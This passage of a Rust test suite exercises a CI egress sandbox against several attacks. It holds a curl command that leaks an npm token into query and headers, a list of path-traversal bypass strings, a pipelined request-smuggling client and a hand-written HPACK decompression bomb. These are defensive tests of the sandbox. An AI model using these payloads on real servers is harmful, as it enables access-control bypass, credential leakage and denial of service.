ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
ctx.load_cert_chain(cert, key)
s.socket = ctx.wrap_socket(s.socket, server_side=True)
print(s.server_address[1], flush=True)
s.serve_forever()
"#;

/// [`REFLECTOR`] over HTTP/2 only (node's `http2`): the same heads, the
/// `103` as an informational head and the credential in a trailer.
const H2_REFLECTOR: &str = r#"
const http2 = require("http2"), fs = require("fs");
const [cert, key, seen] = process.argv.slice(2);
const server = http2.createSecureServer({ cert: fs.readFileSync(cert), key: fs.readFileSync(key) });
server.on("stream", (stream, h) => {
  const auth = h["authorization"] || "";
  fs.appendFileSync(seen, `${h[":authority"]} ${h[":path"]} ${auth}\n`);
  const cred = auth.split(" ").pop();
  const [path, query] = h[":path"].split("?");
  stream.additionalHeaders({ ":status": 103, link: `</hint?k=${cred}>; rel=preload` });
  stream.respond({
    ":status": 301,
    location: `${path}/?${query || ""}`,
    "access-control-allow-origin": h["origin"] || "",
    "set-cookie": [`session=${h["x-session"] || ""}`, `b64=${Buffer.from("user:" + cred).toString("base64")}`],
    "x-echo-auth": auth,
  }, { waitForTrailers: true });
  stream.on("wantTrailers", () => stream.sendTrailers({ "x-trailer-auth": auth }));
  stream.end("moved");
});
server.listen(0, "127.0.0.1", () => console.log(server.address().port));
"#;

/// The job's request to the reflector: the placeholder in the query,
/// `Origin`, `X-Session` and `Authorization`; everything it gets back
/// printed (heads, 1xx, trailers), and the base64 cookie decoded.
fn reflected(curl: &str, port: u16, http2: bool) -> String {
    let version = if http2 { "--http2" } else { "--http1.1" };
    format!(
        "{curl} {version} -sS -i --raw -o got 'https://registry.test:{port}/dir?t='\"$NPM_TOKEN\" \
           -H \"Origin: https://$NPM_TOKEN\" -H \"X-Session: $NPM_TOKEN\" \
           -H \"Authorization: Bearer $NPM_TOKEN\"; cat got; \
         sed -n 's/.*b64=\\([A-Za-z0-9+/=]*\\).*/\\1/p' got | tr -d '\\r' | base64 -d; echo; \
         echo job-finished"
    )
}

/// Runs as an unprivileged user. Bare, a job holding the token reads it
/// back from every reflected head. Under `--secret`, the value goes in
/// `Authorization` only (the query, `Origin` and `X-Session` reach the
/// server as the placeholder, recorded as `secret-sent-elsewhere`), and
/// every response head — the `301`, the `103`, the trailer — reaches the
/// job with the value (raw or base64) replaced by the placeholder; the
/// connection's record says the value came back.
fn the_value_never_comes_back_in_a_response_head(tier: Tier, http2: bool) {
    require!(tier.feature());
    if http2 {
        crate::require_tool!("node", "npm");
    }
    let w = World::at(tier);
    let reg = if http2 {
        Registry::spawn(&w, "node", "reflector.js", H2_REFLECTOR)
    } else {
        Registry::spawn(&w, "python3", "reflector.py", REFLECTOR)
    };
    let port = reg.port;
    let bare = reg.bare(&w, |curl| reflected(curl, port, http2));
    for shown in [
        format!("/dir/?t={TOKEN}"),
        format!("https://{TOKEN}"),
        format!("session={TOKEN}"),
        format!("user:{TOKEN}"),
        format!("hint?k={TOKEN}"),
    ] {
        bare.assert_stdout_contains(&shown);
    }
    assert!(
        bare.stdout().matches(&format!("Bearer {TOKEN}")).count() >= 2,
        "control: bare, the echo and the trailer hold the token\n{}",
        bare.dump()
    );
    std::fs::write(&reg.seen, "").unwrap();

    let (out, log) = reg.ci(&w, &[reg.secret()], &reflected("curl", port, http2));
    out.assert_stdout_contains("301")
        .assert_stdout_contains("/dir/?t=npm_")
        .assert_stdout_contains("user:npm_")
        .assert_stdout_contains("job-finished")
        .assert_no_leak(TOKEN);
    let echoed = out.stdout().to_ascii_lowercase();
    assert!(
        echoed.contains("x-echo-auth: bearer npm_")
            && echoed.contains("x-trailer-auth: bearer npm_"),
        "the echo and the trailer came back with the placeholder\n{}",
        out.dump()
    );
    let seen = reg.seen_by("registry.test");
    assert!(
        seen.len() == 1
            && seen[0].ends_with(&format!("Bearer {TOKEN}"))
            && seen[0].matches(TOKEN).count() == 1,
        "the value went in Authorization only: {seen:?}"
    );
    assert!(
        log.lines().any(|l| l.contains("\"type\":\"violation\"")
            && l.contains("\"secret-sent-elsewhere\"")
            && l.contains("\"host\":\"registry.test\"")
            && l.contains("/usr/bin/curl")),
        "the placeholder outside Authorization is recorded\n{log}"
    );
    assert!(
        log.lines().any(|l| l.contains("\"type\":\"connection\"")
            && l.contains("sent back the value of NPM_TOKEN")),
        "the value coming back is recorded\n{log}"
    );
    assert_not_in_reports(&w.project);
}

fn the_value_never_comes_back_in_an_http1_response_head(tier: Tier) {
    the_value_never_comes_back_in_a_response_head(tier, false);
}
at_every_tier!(the_value_never_comes_back_in_an_http1_response_head);

fn the_value_never_comes_back_in_an_http2_response_head(tier: Tier) {
    the_value_never_comes_back_in_a_response_head(tier, true);
}
at_every_tier!(the_value_never_comes_back_in_an_http2_response_head);

/// Three ways servers route a path, each serving the files
/// `api/allowed/x` ("allowed") and `forbidden` ("FORBIDDEN-CONTENT") of
/// one directory: Python's `http.server` (static files), a servlet-style
/// router (`;` parameters cut from each segment, then decoded and
/// resolved, as Tomcat and Spring do) — one line with the first port,
/// the second in the file `ports`.
const ROUTERS: &str = r#"
import http.server, os, posixpath, ssl, sys, threading, urllib.parse
cert, key, seen = sys.argv[1:4]
root = os.path.join(os.path.dirname(seen), "site")
os.makedirs(os.path.join(root, "api", "allowed"), exist_ok=True)
open(os.path.join(root, "api", "allowed", "x"), "w").write("allowed\n")
open(os.path.join(root, "forbidden"), "w").write("FORBIDDEN-CONTENT\n")
class Static(http.server.SimpleHTTPRequestHandler):
    def __init__(self, *a, **k):
        super().__init__(*a, directory=root, **k)
    def log_message(self, *a):
        pass
class Servlet(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        path = self.path.split("?")[0]
        path = "/".join(seg.split(";")[0] for seg in path.split("/"))
        path = posixpath.normpath(urllib.parse.unquote(path))
        f = os.path.join(root, path.lstrip("/"))
        if os.path.isfile(f) and os.path.realpath(f).startswith(root):
            body = open(f, "rb").read(); self.send_response(200)
        else:
            body = b"none\n"; self.send_response(404)
        self.send_header("Content-Length", str(len(body))); self.end_headers(); self.wfile.write(body)
    def log_message(self, *a):
        pass
ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
ctx.load_cert_chain(cert, key)
ports = []
for handler in (Static, Servlet):
    s = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    s.socket = ctx.wrap_socket(s.socket, server_side=True)
    ports.append(s.server_address[1])
    threading.Thread(target=s.serve_forever, daemon=True).start()
open(os.path.join(os.path.dirname(seen), "ports"), "w").write("%d\n" % ports[1])
print(ports[0], flush=True)
threading.Event().wait()
"#;

/// A node server resolving the path as WHATWG URL parsers do (`\` is
/// `/`, `%2e` is `.`), then serving the file.
const NODE_ROUTER: &str = r#"
const https = require("https"), fs = require("fs"), path = require("path");
const [cert, key, root] = process.argv.slice(2);
https.createServer({ cert: fs.readFileSync(cert), key: fs.readFileSync(key) }, (req, res) => {
  let p;
  try { p = decodeURIComponent(new URL(req.url, "http://h").pathname); } catch { p = "/"; }
  const f = path.join(root, path.normalize(p));
  const [status, body] = f.startsWith(root) && fs.existsSync(f) && fs.statSync(f).isFile()
    ? [200, fs.readFileSync(f)] : [404, Buffer.from("none\n")];
  res.writeHead(status, { "content-length": body.length });
  res.end(body);
}).listen(0, "127.0.0.1", function () { console.log(this.address().port); });
"#;

/// Go's `net/http` file server (`http.FileServer`, no mux): the handler
/// takes the decoded path and cleans it (`path.Clean`), as Go services
/// that serve a tree do. Prints its port.
const GO_ROUTER: &str = r#"
package main

import (
	"crypto/tls"
	"fmt"
	"net"
	"net/http"
	"os"
)

func main() {
	cert, err := tls.LoadX509KeyPair(os.Args[1], os.Args[2])
	if err != nil {
		panic(err)
	}
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		panic(err)
	}
	fmt.Println(l.Addr().(*net.TCPAddr).Port)
	tl := tls.NewListener(l, &tls.Config{Certificates: []tls.Certificate{cert}})
	panic(http.Serve(tl, http.FileServer(http.Dir(os.Args[3]))))
}
"#;

/// The job's client: each target sent as it is (no client's URL
/// normalisation: `#`, `\` and dot segments reach the wire), over TLS to
/// `registry.test` through `HTTPS_PROXY` where one is set; prints `PORT
/// TARGET STATUS FIRST-LINE-OF-BODY`.
const RAW_CLIENT: &str = r#"
import base64, os, socket, ssl, sys, urllib.parse
targets = sys.argv[2:]
ctx = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
proxy = os.environ.get("HTTPS_PROXY")
for port in sys.argv[1].split(","):
    for t in targets:
        if proxy:
            u = urllib.parse.urlparse(proxy)
            s = socket.create_connection((u.hostname, u.port), timeout=20)
            cred = base64.b64encode(("%s:%s" % (u.username, u.password)).encode()).decode()
            s.sendall(("CONNECT registry.test:%s HTTP/1.1\r\nHost: registry.test:%s\r\nProxy-Authorization: Basic %s\r\n\r\n" % (port, port, cred)).encode())
            got = b""
            while b"\r\n\r\n" not in got:
                more = s.recv(4096)
                if not more: break
                got += more
        else:
            s = socket.create_connection((os.environ.get("REGISTRY_ADDR", "127.0.0.1"), int(port)), timeout=20)
        c = ctx.wrap_socket(s, server_hostname="registry.test")
        c.sendall(("GET %s HTTP/1.1\r\nHost: registry.test:%s\r\nConnection: close\r\n\r\n" % (t, port)).encode())
        data = b""
        while True:
            more = c.recv(65536)
            if not more: break
            data += more
        head, _, body = data.partition(b"\r\n\r\n")
        status = head.split(b" ")[1].decode() if head.startswith(b"HTTP/") else "none"
        print(port, t, status, (body.splitlines() or [b""])[0].decode(errors="replace"), flush=True)
"#;

/// The targets: one the rule allows, and ways out of it that some server
/// reads as `/forbidden`.
const WAYS_OUT: &[&str] = &[
    "/api/allowed/x",
    "/api/allowed/x#/../../forbidden",
    "/api/allowed/..;/..;/forbidden",
    "/api/allowed/x;/../../forbidden",
    "/api/allowed/..\\..\\forbidden",
    "/api/allowed/%2e%2e/%2e%2e/forbidden",
    "/api/allowed/.%2E/.%2E/forbidden",
    "/api/allowed/..%2f..%2fforbidden",
    "/api/allowed/..%5c..%5cforbidden",
    "/api/allowed/%252e%252e/%252e%252e/forbidden",
];

/// Runs as an unprivileged user. A rule `GET registry.test:PORT/api/allowed/*`
/// against four servers' routing (Python's static server, a servlet-style
/// router, node resolving as URL parsers do, Go's `net/http` file server),
/// one set of targets sent raw. Bare, the servlet router serves
/// `/forbidden` for `..;`, node for `..\..` and Go for `%2e%2e`. Under
/// vetto no target it lets through is served `/forbidden` by any of them:
/// those with a fragment, `;`, `\`, an encoded separator or a decoded dot
/// segment are answered 403 and never reach the server, and the allowed
/// one is served by all four.
fn a_path_rule_means_what_every_server_reads(tier: Tier) {
    require!(tier.feature());
    crate::require_tool!("node", "npm");
    let w = World::at(tier);
    let reg = Registry::spawn(&w, "python3", "routers.py", ROUTERS);
    let dir = reg.seen.parent().unwrap().to_path_buf();
    let servlet: u16 = std::fs::read_to_string(dir.join("ports"))
        .unwrap()
        .trim()
        .parse()
        .unwrap();
    w.write(&dir.join("node_router.js"), NODE_ROUTER);
    let mut node = Stopped(
        Command::new("node")
            .arg(dir.join("node_router.js"))
            .arg(dir.join("server.pem"))
            .arg(dir.join("server.key"))
            .arg(dir.join("site"))
            .stdout(Stdio::piped())
            .spawn()
            .unwrap(),
    );
    let mut line = String::new();
    BufReader::new(node.0.stdout.take().unwrap())
        .read_line(&mut line)
        .unwrap();
    let node_port: u16 = line.trim().parse().unwrap();
    crate::require_tool!("go", "go");
    w.write(&dir.join("go_router.go"), GO_ROUTER);
    // Built, then run: `go run` leaves its child running when it is killed.
    let built = Command::new("go")
        .arg("build")
        .arg("-o")
        .arg(dir.join("go_router"))
        .arg(dir.join("go_router.go"))
        .env("GOTOOLCHAIN", "local")
        .env("GOFLAGS", "")
        .env("GO111MODULE", "off")
        .status()
        .unwrap();
    assert!(built.success(), "go build of the router failed");
    let mut go = Stopped(
        Command::new(dir.join("go_router"))
            .arg(dir.join("server.pem"))
            .arg(dir.join("server.key"))
            .arg(dir.join("site"))
            .stdout(Stdio::piped())
            .spawn()
            .unwrap(),
    );
    let mut line = String::new();
    BufReader::new(go.0.stdout.take().unwrap())
        .read_line(&mut line)
        .unwrap();
    let go_port: u16 = line.trim().parse().unwrap();
    let ports = [reg.port, servlet, node_port, go_port];
    let list = ports.map(|p| p.to_string()).join(",");
    w.write(&w.project.join("client.py"), RAW_CLIENT);
    let quoted: Vec<String> = WAYS_OUT.iter().map(|t| format!("'{t}'")).collect();
    let script = format!(
        "python3 client.py {list} {}; echo job-finished",
        quoted.join(" ")
    );

    let bare = w
        .bare(&["sh", "-c", &script])
        .env("SSL_CERT_FILE", &reg.ca)
        .run();
    let served = |out: &Out, port: u16, target: &str| {
        out.stdout()
            .lines()
            .any(|l| l == format!("{port} {target} 200 FORBIDDEN-CONTENT"))
    };
    assert!(
        served(&bare, servlet, "/api/allowed/..;/..;/forbidden")
            && served(&bare, node_port, "/api/allowed/..\\..\\forbidden")
            && served(&bare, go_port, "/api/allowed/%2e%2e/%2e%2e/forbidden"),
        "control: bare, a servlet router, node and Go serve /forbidden\n{}",
        bare.dump()
    );

    let rules: Vec<String> = ports
        .iter()
        .map(|p| format!("--rule=GET registry.test:{p}/api/allowed/*"))
        .collect();
    let (out, log) = reg.ci(&w, &rules, &script);
    out.assert_stdout_contains("job-finished")
        .assert_stdout_lacks("FORBIDDEN-CONTENT");
    for port in ports {
        out.assert_stdout_contains(&format!("{port} /api/allowed/x 200 allowed"));
        for target in &WAYS_OUT[1..] {
            out.assert_stdout_contains(&format!("{port} {target} 403"));
        }
    }
    assert!(
        log.lines().any(|l| l.contains("\"type\":\"violation\"")
            && l.contains("\"net-egress-blocked\"")
            && l.contains("/usr/bin/python3")),
        "the refusals are recorded with the process\n{log}"
    );
    assert!(
        log.lines().any(|l| l.contains("\"type\":\"connection\"")
            && l.contains("\"request-refused\"")
            && l.contains("; parameters in a segment")),
        "the refusals say why\n{log}"
    );
}
at_every_tier!(a_path_rule_means_what_every_server_reads);

/// A server process, stopped when dropped (a failed assertion too).
struct Stopped(Child);

impl Drop for Stopped {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// A server that switches `/ws` to an echo protocol (`101`, then every
/// byte sent back after `echo:`) and answers every other request `200`,
/// whatever its method or `Host`, writing down `HOST METHOD PATH`.
const UPGRADER: &str = r#"
import socket, ssl, sys, threading
cert, key, seen = sys.argv[1:4]
ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
ctx.load_cert_chain(cert, key)
def serve(c):
    buf = b""
    try:
        while True:
            while b"\r\n\r\n" not in buf:
                more = c.recv(65536)
                if not more: return
                buf += more
            head, _, buf = buf.partition(b"\r\n\r\n")
            lines = head.decode().split("\r\n")
            method, path, _ = lines[0].split(" ")
            h = {l.split(":", 1)[0].strip().lower(): l.split(":", 1)[1].strip() for l in lines[1:]}
            with open(seen, "a") as f:
                f.write("%s %s %s\n" % (h.get("host"), method, path))
            if path == "/ws" and "upgrade" in h.get("connection", "").lower():
                c.sendall(b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: echo\r\nConnection: Upgrade\r\n\r\n")
                while True:
                    if buf:
                        c.sendall(b"echo:" + buf); buf = b""
                    buf = c.recv(65536)
                    if not buf: return
            c.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 3\r\n\r\nok\n")
            if h.get("connection", "").lower() == "close": return
    finally:
        c.close()
s = socket.socket(); s.bind(("127.0.0.1", 0)); s.listen(16)
print(s.getsockname()[1], flush=True)
while True:
    conn, _ = s.accept()
    def run(conn=conn):
        try:
            serve(ctx.wrap_socket(conn, server_side=True))
        except Exception:
            pass
    threading.Thread(target=run, daemon=True).start()
"#;

/// The job's client: on one connection, a request asking for an upgrade
/// the server does not make, with a `POST` and a request naming another
/// host pipelined behind it in the same write; on another, an upgrade
/// the server makes, then bytes of the new protocol. Prints every
/// status it is answered and what the echo sends back.
const UPGRADE_CLIENT: &str = r#"
import base64, os, re, socket, ssl, sys, urllib.parse
port = sys.argv[1]
ctx = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
def connect():
    proxy = os.environ.get("HTTPS_PROXY")
    if proxy:
        u = urllib.parse.urlparse(proxy)
        s = socket.create_connection((u.hostname, u.port), timeout=20)
        cred = base64.b64encode(("%s:%s" % (u.username, u.password)).encode()).decode()
        s.sendall(("CONNECT registry.test:%s HTTP/1.1\r\nHost: registry.test:%s\r\nProxy-Authorization: Basic %s\r\n\r\n" % (port, port, cred)).encode())
        got = b""
        while b"\r\n\r\n" not in got:
            got += s.recv(4096)
    else:
        s = socket.create_connection(("127.0.0.1", int(port)), timeout=20)
    return ctx.wrap_socket(s, server_hostname="registry.test")
host = "registry.test:%s" % port
c = connect()
c.sendall(("GET /no-ws HTTP/1.1\r\nHost: %s\r\nConnection: upgrade\r\nUpgrade: websocket\r\n\r\n"
           "POST /private HTTP/1.1\r\nHost: %s\r\nContent-Length: 0\r\n\r\n"
           "GET /fronted HTTP/1.1\r\nHost: elsewhere.test\r\nConnection: close\r\n\r\n" % (host, host)).encode())
data = b""
while True:
    try:
        more = c.recv(65536)
    except Exception:
        break
    if not more: break
    data += more
print("pipelined:", " ".join(re.findall(r"HTTP/1\.1 (\d{3})", data.decode(errors="replace"))), flush=True)
c = connect()
c.sendall(("GET /ws HTTP/1.1\r\nHost: %s\r\nConnection: Upgrade\r\nUpgrade: echo\r\n\r\n" % host).encode())
got = b""
while b"\r\n\r\n" not in got:
    got += c.recv(4096)
print("upgrade:", got.split(b" ")[1].decode(), flush=True)
c.sendall(b"hello-new-protocol")
print(c.recv(4096).decode(), flush=True)
"#;

/// Runs as an unprivileged user. `Connection: upgrade` on a request the
/// server does not upgrade, with a `POST` a GET-only rule forbids and a
/// request naming another host pipelined behind it: bare, the server
/// takes all three. Under vetto nothing behind the upgrade request is read
/// until the server answers it; its `200` leaves the connection HTTP, so
/// the `POST` is refused (403) and neither it nor the fronted request
/// reaches the server. An upgrade the server makes (`101`) is then a copy
/// both ways, and is recorded with the protocol.
fn requests_behind_an_upgrade_are_read_until_the_server_switches(tier: Tier) {
    require!(tier.feature());
    let w = World::at(tier);
    let reg = Registry::spawn(&w, "python3", "upgrader.py", UPGRADER);
    let port = reg.port;
    w.write(&w.project.join("client.py"), UPGRADE_CLIENT);
    let script = format!("python3 client.py {port}; echo job-finished");
    let bare = w
        .bare(&["sh", "-c", &script])
        .env("SSL_CERT_FILE", &reg.ca)
        .run();
    bare.assert_stdout_contains("pipelined: 200 200 200")
        .assert_stdout_contains("echo:hello-new-protocol");
    let seen = std::fs::read_to_string(&reg.seen).unwrap();
    assert!(
        seen.contains(" POST /private") && seen.contains("elsewhere.test GET /fronted"),
        "control: bare, the pipelined requests reach the server\n{seen}"
    );
    std::fs::write(&reg.seen, "").unwrap();

    let rule = format!("--rule=GET registry.test:{port}/*");
    let (out, log) = reg.ci(&w, &[rule], &script);
    out.assert_stdout_contains("pipelined: 200 403")
        .assert_stdout_contains("upgrade: 101")
        .assert_stdout_contains("echo:hello-new-protocol")
        .assert_stdout_contains("job-finished");
    let seen = std::fs::read_to_string(&reg.seen).unwrap();
    assert!(
        !seen.contains("POST") && !seen.contains("elsewhere.test") && seen.lines().count() == 2,
        "only the two GETs reached the server\n{seen}"
    );
    assert!(
        log.lines().any(|l| l.contains("\"type\":\"violation\"")
            && l.contains("\"net-egress-blocked\"")
            && l.contains("/usr/bin/python3")),
        "the refused POST is recorded with the process\n{log}"
    );
    assert!(
        log.lines().any(|l| l.contains("\"type\":\"connection\"")
            && l.contains("upgraded to echo after the server's 101")),
        "the upgraded connection is recorded\n{log}"
    );
}
at_every_tier!(requests_behind_an_upgrade_are_read_until_the_server_switches);

/// An HTTP/2 server that never answers: it takes the connection, sends
/// its settings and reads (and drops) whatever comes, so every stream
/// sent to it waits.
const SILENT_H2: &str = r#"
import socket, ssl, sys, threading
cert, key, seen = sys.argv[1:4]
ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
ctx.load_cert_chain(cert, key)
ctx.set_alpn_protocols(["h2"])
def serve(conn):
    try:
        c = ctx.wrap_socket(conn, server_side=True)
        c.sendall(b"\x00\x00\x00\x04\x00\x00\x00\x00\x00")
        acked = False
        while True:
            data = c.recv(65536)
            if not data: return
            if not acked:
                c.sendall(b"\x00\x00\x00\x04\x01\x00\x00\x00\x00"); acked = True
            with open(seen, "a") as f:
                f.write("%d\n" % len(data))
    except Exception:
        pass
s = socket.socket(); s.bind(("127.0.0.1", 0)); s.listen(16)
print(s.getsockname()[1], flush=True)
while True:
    conn, _ = s.accept()
    threading.Thread(target=serve, args=(conn,), daemon=True).start()
"#;

/// The job's HPACK bomb (RFC 7541 by hand): one 4,000-byte header put in
/// the connection's table, then `STREAMS` requests of `REFS` one-byte
/// references to it each — about 14 MB of headers per stream decoded,
/// from 3.5 KB sent. Then it writes `bombed`, and waits (bounded) for the
/// test to write `measured`.
const HPACK_BOMB: &str = r#"
import base64, os, socket, ssl, sys, time, urllib.parse
port, streams, refs = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
ctx = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
ctx.set_alpn_protocols(["h2"])
proxy = os.environ.get("HTTPS_PROXY")
if proxy:
    u = urllib.parse.urlparse(proxy)
    s = socket.create_connection((u.hostname, u.port), timeout=30)
    cred = base64.b64encode(("%s:%s" % (u.username, u.password)).encode()).decode()
    s.sendall(("CONNECT registry.test:%s HTTP/1.1\r\nHost: registry.test:%s\r\nProxy-Authorization: Basic %s\r\n\r\n" % (port, port, cred)).encode())
    got = b""
    while b"\r\n\r\n" not in got:
        got += s.recv(4096)
else:
    s = socket.create_connection(("127.0.0.1", int(port)), timeout=30)
c = ctx.wrap_socket(s, server_hostname="registry.test")
print("alpn", c.selected_alpn_protocol(), flush=True)
def integer(value, bits, flags):
    top = (1 << bits) - 1
    if value < top: return bytes([flags | value])
    out = [flags | top]; value -= top
    while value >= 128:
        out.append((value & 127) | 128); value >>= 7
    return bytes(out + [value])
def string(b):
    return integer(len(b), 7, 0) + b
def frame(kind, flags, stream, payload):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload
authority = ("registry.test:%s" % port).encode()
c.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b""))
# Vetto's settings first, acknowledged.
head = b""
while len(head) < 9:
    head += c.recv(9 - len(head))
rest = int.from_bytes(head[:3], "big")
while rest:
    rest -= len(c.recv(rest))
c.sendall(frame(4, 1, 0, b""))
sent = 0
try:
    for i in range(streams):
        block = b"\x82\x87\x84" + integer(1, 4, 0) + string(authority)
        if i == 0:
            block += b"\x40" + string(b"x-bomb") + string(b"b" * 4000)
        block += b"\xbe" * refs
        c.sendall(frame(1, 0x5, 1 + 2 * i, block))
        sent += 1
except Exception as e:
    print("closed after", sent, "streams:", type(e).__name__, flush=True)
# What comes back (431s, or nothing from a server that waits), briefly.
c.settimeout(5)
answers = 0
try:
    while True:
        data = c.recv(65536)
        if not data: break
        answers += len(data)
except Exception:
    pass
print("bomb sent:", sent, "of", streams, "streams,", answers, "bytes back", flush=True)
open("bombed", "w").write("1")
for _ in range(600):
    if os.path.exists("measured"): break
    time.sleep(0.1)
print("measured seen", os.path.exists("measured"), flush=True)
"#;

/// The highest resident memory (VmHWM, KiB) of the vetto processes whose
/// command line names `project`.
fn vetto_peak_kib(project: &Path) -> u64 {
    let bin = crate::util::vetto_bin();
    let mut peak = 0;
    for entry in std::fs::read_dir("/proc").unwrap().flatten() {
        let dir = entry.path();
        let ours = std::fs::read_link(dir.join("exe")).is_ok_and(|e| e == bin)
            && std::fs::read(dir.join("cmdline"))
                .is_ok_and(|c| String::from_utf8_lossy(&c).contains(project.to_str().unwrap()));
        if !ours {
            continue;
        }
        let status = std::fs::read_to_string(dir.join("status")).unwrap_or_default();
        let hwm = status
            .lines()
            .find_map(|l| l.strip_prefix("VmHWM:"))
            .and_then(|v| v.trim().trim_end_matches("kB").trim().parse::<u64>().ok())
            .unwrap_or(0);
        peak = peak.max(hwm);
    }
    peak
}

/// Streams of the bomb, and references per stream: each stream decodes
/// to about 14 MB of headers (under the 16 MB h2 accepts by default).
const BOMB_STREAMS: usize = 60;
const BOMB_REFS: usize = 3500;

/// Runs as an unprivileged user. An HPACK bomb against vetto's own
/// memory: 60 streams of 3,500 references to one 4 KB table entry, about
/// 210 KB sent, standing for some 840 MB of headers, queued behind an
/// HTTP/2 server that never answers. Each header list is decoded no
/// further than the 16 KiB head limit and refused (431) before anything
/// is copied, so vetto's peak resident memory (VmHWM, read from /proc
/// while the job waits) stays under 100 MiB (measured: 27 MiB). Without
/// the limits (decoded whole, copied, held while the server is waited
/// for) the same test measured 242–248 MiB.
fn an_hpack_bomb_does_not_grow_vettos_memory(tier: Tier) {
    require!(tier.feature());
    let w = World::at(tier);
    let reg = Registry::spawn(&w, "python3", "silent.py", SILENT_H2);
    let port = reg.port;
    w.write(&w.project.join("bomb.py"), HPACK_BOMB);
    let script = format!("python3 bomb.py {port} {BOMB_STREAMS} {BOMB_REFS}; echo job-finished");
    // Control: what the bomb stands for, decoded.
    let decoded = BOMB_STREAMS * BOMB_REFS * (4000 + "x-bomb".len() + 32);
    assert!(decoded > 400 << 20, "{decoded}");

    let project = w.project.clone();
    let watcher = std::thread::spawn(move || {
        // Bounded: the job writes `bombed` once its streams are sent.
        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(120);
        while !project.join("bombed").exists() && std::time::Instant::now() < deadline {
            std::thread::sleep(std::time::Duration::from_millis(50));
        }
        let peak = vetto_peak_kib(&project);
        std::fs::write(project.join("measured"), peak.to_string()).unwrap();
        peak
    });
    let rule = format!("--rule=* registry.test:{port}/*");
    let (out, _) = reg.ci(&w, &[rule], &script);
    let peak = watcher.join().unwrap();
    out.assert_stdout_contains("alpn h2")
        .assert_stdout_contains("bomb sent: ")
        .assert_stdout_contains("measured seen True")
        .assert_stdout_contains("job-finished");
    assert!(
        peak > 0 && peak < 100 * 1024,
        "vetto's peak resident memory under the bomb: {peak} KiB\n{}",
        out.dump()
    );
    eprintln!(
        "vetto's peak resident memory under the HPACK bomb: {peak} KiB ({})",
        out.stdout()
            .lines()
            .find(|l| l.starts_with("bomb sent"))
            .unwrap_or("")
    );
}
at_every_tier!(an_hpack_bomb_does_not_grow_vettos_memory);
